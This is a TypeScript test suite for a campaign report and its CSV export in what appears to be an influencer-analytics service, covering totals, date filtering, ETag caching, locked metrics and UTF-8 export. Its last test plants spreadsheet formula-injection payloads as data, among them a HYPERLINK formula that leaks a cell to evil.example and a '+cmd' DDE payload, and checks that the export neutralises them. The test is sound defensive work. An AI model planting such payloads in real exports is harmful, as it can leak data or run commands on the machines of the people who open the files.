import { assert, layer } from "@effect/vitest"
import { Effect } from "effect"
import { SqlClient } from "effect/sql/SqlClient"
import type { CampaignReport } from "../../src/campaigns/CampaignReport.ts"
import { parseCsv } from "../http/parseCsv.ts"
import { lockAll, type Page, send, unlockedProfile } from "../support/requests.ts"
import { TestApp, type TestUser } from "../support/TestApp.ts"

layer(TestApp.layer(), { excludeTestServices: true })("a campaign's report", (it) => {
  /** A campaign with the posts of a creator whom the user has looked up. */
  const running = Effect.fnUntraced(function*(body: object = {}) {
    const user = yield* (yield* TestApp).newUser
    yield* user.get("/profile/some.creator")
    const { data: posts } = (yield* user.get("/profile/some.creator/posts?limit=100"))
      .json<Page<{ shortcode: string; likes_count: number | null; comments_count: number | null; posted_at: string }>>()
    const campaign = `/campaigns/${(yield* send(user, "POST", "/campaigns", { name: "c", ...body })).json<{ id: string }>().id}`
    yield* send(user, "PUT", `${campaign}/profiles/some.creator`, { role: "creator" })
    for (const { shortcode } of posts) yield* send(user, "PUT", `${campaign}/posts/${shortcode}`, {})
    return { user, campaign, posts, id: campaign.split("/")[2] ?? "" }
  })
  const reportOf = (user: TestUser, campaign: string) =>
    Effect.map(user.get(`${campaign}/report`), (answer) => answer.json<typeof CampaignReport.Type>())

  it.effect("adds up what the posts have, and costs and goals with it", () =>
    Effect.gen(function*() {
      const { campaign, posts, user } = yield* running({
        budget: "250.00",
        currency: "EUR",
        campaign_goals: { likes: 1000, posts: 4 }
      })
      const report = yield* reportOf(user, campaign)
      const likes = posts.flatMap((post) => post.likes_count ?? [])
      const engagement = posts.flatMap(({ comments_count, likes_count }) =>
        likes_count === null || comments_count === null ? [] : likes_count + comments_count
      )
      const sum = (values: ReadonlyArray<number>) => values.reduce((a, b) => a + b, 0)
      assert.strictEqual(report.totals.posts.value, posts.length)
      assert.strictEqual(report.totals.likes.value, sum(likes))
      assert.strictEqual(report.totals.likes.sample?.size, likes.length)
      assert.strictEqual(report.totals.engagement.value, sum(engagement))
      assert.approximately(report.totals.cost_per_engagement.value ?? 0, 250 / sum(engagement), 1e-8)
      assert.deepStrictEqual(report.goals.map((goal) => goal.metric).sort(), ["likes", "posts"])
      assert.strictEqual(report.profiles[0]?.likes.value, sum(likes))
      assert.lengthOf(report.posts, posts.length)
    }))

  it.effect("is of its dates: set them, and the posts outside them are left out", () =>
    Effect.gen(function*() {
      const { campaign, posts, user } = yield* running()
      const days = posts.map((post) => post.posted_at.slice(0, 10)).sort()
      const [start = "", end = ""] = [days[3], days.at(-4)]
      yield* send(user, "PATCH", campaign, { start_date: start, end_date: end })
      const report = yield* reportOf(user, campaign)
      const within = days.filter((day) => day >= start && day <= end)
      assert.strictEqual(report.totals.posts.value, within.length)
      assert.strictEqual(report.left_out.outside_dates, posts.length - within.length)
    }))

  it.effect("costs nothing while nothing changes, and is new when anything does", () =>
    Effect.gen(function*() {
      const sql = yield* SqlClient
      const { campaign, id, posts, user } = yield* running()
      const first = yield* user.get(`${campaign}/report`)
      let tag = first.headers.get("etag") ?? ""
      const same = yield* user.get(`${campaign}/report`, { "if-none-match": `"other", W/${tag}` })
      assert.deepStrictEqual([same.status, same.text], [304, ""])
      const shortcode = posts[0]?.shortcode ?? ""
      const changes = [
        send(user, "PATCH", campaign, { name: "new name" }),
        send(user, "PUT", `${campaign}/posts/${shortcode}`, { role: "hero" }),
        sql`UPDATE posts SET likes_count = 1 + coalesce(likes_count, 0), likes_hidden = false WHERE shortcode = ${shortcode}`,
        send(user, "DELETE", `${campaign}/posts/${shortcode}`),
        lockAll(user)
      ]
      for (const change of changes) {
        yield* change
        const answer = yield* user.get(`${campaign}/report`, { "if-none-match": tag })
        assert.strictEqual(answer.status, 200)
        tag = answer.headers.get("etag") ?? ""
      }
      assert.strictEqual((yield* user.get(`${campaign}/report`, { "if-none-match": tag })).status, 304)
      assert.lengthOf(yield* sql`SELECT 1 FROM campaign_posts WHERE campaign_id = ${id}`, posts.length - 1)
    }))

  it.effect("has no figure of what is not unlocked, in report and export alike, and the way to it", () =>
    Effect.gen(function*() {
      const { campaign, posts, user } = yield* running()
      yield* lockAll(user)
      const report = yield* reportOf(user, campaign)
      assert.deepStrictEqual(report.left_out, { outside_dates: 0, undated: 0, locked: posts.length })
      for (const metric of ["likes", "comments", "engagement", "engagement_rate"] as const) {
        assert.deepStrictEqual([report.totals[metric].value, report.totals[metric].reason], [null, "access_required"])
        for (const post of report.posts) {
          assert.deepStrictEqual([post[metric].value, post[metric].reason], [null, "access_required"])
        }
      }
      assert.deepStrictEqual(
        report.profiles.map((profile) => profile.unlock),
        ["/profile/some.creator"]
      )
      const [header = [], ...lines] = parseCsv((yield* csv(user, campaign)).text)
      for (const column of ["likes", "comments", "plays", "engagement_rate_percent", "caption"]) {
        assert.deepStrictEqual([...new Set(lines.map((line) => line[header.indexOf(column)]))], [""], column)
      } // A repeat within a minute is the same look, which opens nothing.

      ;(yield* TestApp).clock.advance("2 minutes")
      yield* user.get("/profile/some.creator")
      assert.strictEqual((yield* reportOf(user, campaign)).left_out.locked, 0)
    }))

  const csv = (user: TestUser, campaign: string, of = "") =>
    Effect.gen(function*() {
      const { url } = yield* TestApp
      const response = yield* Effect.promise(() =>
        fetch(`${url}${campaign}/export${of}`, { headers: { authorization: `Bearer ${user.token}` } })
      )
      return { headers: response.headers, text: yield* Effect.promise(() => response.text()) }
    })

  it.effect("is exported as CSV: a line for each post, across pages of the database, in UTF-8", () =>
    Effect.gen(function*() {
      const sql = yield* SqlClient
      const { campaign, id, posts, user } = yield* running()
      yield* sql`
        WITH made AS (
          INSERT INTO posts (profile_id, instagram_post_id, shortcode, media_type, is_video, is_carousel, raw_data, caption, likes_count)
          SELECT profile_id, 'x' || n, 'Many' || n, 'photo', false, false, '{}', 'كاپشن, "quoted"' || chr(10) || n, n
          FROM posts, generate_series(1, 600) AS n WHERE shortcode = ${posts[0]?.shortcode ?? ""} RETURNING id, profile_id
        ), linked AS (
          INSERT INTO post_profiles (profile_id, post_id, relation) SELECT profile_id, id, 'owner' FROM made
        )
        INSERT INTO campaign_posts (campaign_id, post_id) SELECT ${id}::uuid, id FROM made`
      const { headers, text } = yield* csv(user, campaign)
      assert.strictEqual(headers.get("content-type"), "text/csv; charset=utf-8; header=present")
      assert.match(headers.get("content-disposition") ?? "", /^attachment; filename="campaign-[0-9a-f]{8}-posts\.csv"$/)
      const [header = [], ...lines] = parseCsv(text)
      assert.lengthOf(lines, posts.length + 600)
      assert.isTrue(lines.every((line) => line.length === header.length))
      const shortcodes = lines.map((line) => line[header.indexOf("shortcode")])
      assert.lengthOf(new Set(shortcodes), lines.length)
      const line = lines[shortcodes.indexOf("Many600")] ?? []
      assert.strictEqual(line[header.indexOf("caption")], "كاپشن, \"quoted\"\n600")
      assert.strictEqual(line[header.indexOf("likes")], "600")
      assert.strictEqual(line[header.indexOf("comments")], "", "unknown is empty, not 0")
    }))

  it.effect("runs no formula in a spreadsheet, whatever notes, captions and names say", () =>
    Effect.gen(function*() {
      const sql = yield* SqlClient
      const { campaign, posts, user } = yield* running()
      const shortcode = posts[0]?.shortcode ?? ""
      const formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
      yield* send(user, "PUT", `${campaign}/posts/${shortcode}`, { notes: formula })
      yield* sql`UPDATE posts SET caption = ${"@here -1+1"} WHERE shortcode = ${shortcode}`
      const profile = yield* unlockedProfile(user)
      yield* sql`UPDATE profiles SET full_name = ${"+cmd|' /C calc'!A0"} WHERE id = ${profile.id}`
      yield* send(user, "PUT", `${campaign}/profiles/${profile.username}`, { notes: "\t-2+3" })
      const written = parseCsv((yield* csv(user, campaign)).text).flat()
      const people = parseCsv((yield* csv(user, campaign, "?of=profiles")).text).flat()
      assert.includeMembers([...written], [`'${formula}`, "'@here -1+1"])
      assert.includeMembers([...people], ["'+cmd|' /C calc'!A0", "'\t-2+3"])
      for (const cell of [...written, ...people]) assert.notMatch(cell, /^[=+@\t\r]/)
    }))
})
